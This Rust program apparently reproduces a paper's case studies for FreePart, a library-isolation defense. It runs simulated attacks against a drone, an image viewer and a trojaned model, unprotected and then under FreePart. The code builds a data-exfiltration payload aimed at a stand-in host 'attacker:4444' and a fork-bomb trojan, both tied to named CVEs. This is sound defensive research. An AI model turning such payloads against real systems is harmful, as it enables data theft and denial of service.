//! Regenerates the **§5.4 and §A.7 case studies**: the autonomous
//! drone, the MComix3 viewer leak, and the StegoNet trojan model — each
//! run unprotected and under FreePart.

use freepart::{Policy, Runtime};
use freepart_apps::{drone, mcomix, stegonet};
use freepart_attacks::{judge, payloads, AttackGoal};
use freepart_baselines::{ApiSurface, MonolithicRuntime};
use freepart_frameworks::registry::standard_registry;

fn main() {
    // ---------------- §5.4.1 drone ----------------
    println!("\n== §5.4.1 Autonomous object-tracking drone ==");
    let dos = |surface: &mut dyn ApiSurface| {
        let cfg = drone::DroneConfig {
            frames: 6,
            evil_frame: Some((2, payloads::dos("CVE-2017-14136"))),
        };
        drone::run(surface, &cfg)
    };
    let mut orig = MonolithicRuntime::original(standard_registry());
    let r = dos(&mut orig);
    println!(
        "unprotected: control loop alive = {} (drone falls out of the sky), frames {}/{}",
        r.control_loop_alive, r.frames_processed, 6
    );
    let mut fp = Runtime::install(standard_registry(), Policy::freepart());
    let r = dos(&mut fp);
    println!(
        "FreePart:    control loop alive = {} (only the poisoned frame lost), frames {}/{}",
        r.control_loop_alive, r.frames_processed, 6
    );
    assert!(r.control_loop_alive);

    // Speed corruption.
    let probe_addr = {
        let mut p = Runtime::install(standard_registry(), Policy::freepart());
        let r = drone::run(
            &mut p,
            &drone::DroneConfig {
                frames: 0,
                evil_frame: None,
            },
        );
        p.objects.meta(r.speed).unwrap().buffer.unwrap().0
    };
    let mut fp = Runtime::install(standard_registry(), Policy::freepart());
    let cfg = drone::DroneConfig {
        frames: 4,
        evil_frame: Some((
            1,
            payloads::corrupt(
                "CVE-2017-12606",
                probe_addr.0,
                (-0.3f64).to_le_bytes().to_vec(),
            ),
        )),
    };
    let r = drone::run(&mut fp, &cfg);
    println!(
        "FreePart vs speed corruption: all steering commands positive = {} (paper: \
         self.speed protected in the target process)",
        r.commands.iter().all(|c| *c > 0.0)
    );

    // ---------------- §5.4.2 MComix3 ----------------
    println!("\n== §5.4.2 MComix3 information leak ==");
    let files = vec![
        "/home/u/private-scan.png".to_owned(),
        "/home/u/tax-return.png".to_owned(),
    ];
    let addr = {
        let mut p = Runtime::install(standard_registry(), Policy::freepart());
        let r = mcomix::run(
            &mut p,
            &mcomix::ViewerConfig {
                files: files.clone(),
                evil_at: None,
            },
        );
        p.objects.meta(r.recent).unwrap().buffer.unwrap().0
    };
    let mut fp = Runtime::install(standard_registry(), Policy::freepart());
    mcomix::run(
        &mut fp,
        &mcomix::ViewerConfig {
            files,
            evil_at: Some((
                0,
                payloads::exfiltrate("CVE-2020-10378", addr.0, 30, "attacker:4444"),
            )),
        },
    );
    let log = fp.exploit_log.clone();
    let (kernel, objects, host) = fp.attack_view();
    let v = judge(
        &AttackGoal::Exfiltrate {
            marker: b"private-scan".to_vec(),
        },
        kernel,
        objects,
        host,
        &log,
    );
    println!("recent-file-name leak under FreePart: {v:?} (paper: prevented twice over)");

    // ---------------- §A.7 StegoNet ----------------
    println!("\n== §A.7 StegoNet trojan model ==");
    let cfg = stegonet::StegoConfig {
        app: stegonet::StegoApp::MedicalCt,
        inputs: 2,
        trojan: Some(payloads::stegonet_fork_bomb("CVE-2022-45907")),
    };
    let mut orig = MonolithicRuntime::original(standard_registry());
    stegonet::run(&mut orig, &cfg);
    let orig_bomb = orig.exploit_log().last().unwrap().outcome.achieved();
    // Warm FreePart's loading agent so its filter is sealed.
    let mut fp = Runtime::install(standard_registry(), Policy::freepart());
    fp.kernel.fs_put(
        "/models/warm.stsr",
        freepart_frameworks::fileio::encode_tensor(
            &freepart_frameworks::tensor::Tensor::generate(&[4], |_| 0.0),
            None,
        ),
    );
    fp.call(
        "torch.load",
        &[freepart_frameworks::Value::from("/models/warm.stsr")],
    )
    .unwrap();
    stegonet::run(&mut fp, &cfg);
    let fp_bomb = fp.exploit_log.last().unwrap().outcome.achieved();
    println!("fork bomb detonates unprotected: {orig_bomb}; under FreePart: {fp_bomb}");
    println!("(paper: no data-processing API needs fork(), so the filter kills it)");
    assert!(orig_bomb && !fp_bomb);
}
